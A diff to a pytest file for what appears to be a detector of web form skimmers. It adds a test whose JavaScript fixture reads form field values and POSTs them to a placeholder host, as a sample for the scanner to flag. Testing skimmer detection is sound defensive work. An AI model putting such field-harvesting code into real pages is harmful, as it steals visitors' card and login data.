@@ -7,6 +7,7 @@ from collections.abc import Callable
 import pytest
 
 from adapters.sigil.local.material import Package
+from adapters.sigil.models import PhaseName
 from tests.adapters.sigil.local.phases.conftest import Outcome, Pack
 
 _SKIMMERS = (
@@ -76,3 +77,14 @@ def test_fields_that_are_reported_on_demand(code: str, scan: Callable[..., Outco
 def test_fields_of_every_day(code: str, scan: Callable[..., Outcome]) -> None:
     """A search, a newsletter and a count are no skimmers: they know nothing of cards or passwords."""
     assert not scan(code).dangerous
+
+
+def test_selectors_that_can_be_divided_in_many_ways_end(scan: Callable[..., Outcome]) -> None:
+    """One that is no selector of every field, as only its end shows."""
+    selector = "form" + ":formform" * 40 + "!"
+    code = (
+        f"export function mount() {{ const all = document.querySelectorAll('{selector}');\n"
+        "  fetch('https://s.example.invalid', { method: 'POST', body: JSON.stringify([...all].map(x => x.value)) }); }"
+    )
+    found = scan(code)
+    assert ("input-leaves" in found.rules(PhaseName.CREDENTIALS), found.dangerous) == (True, False)
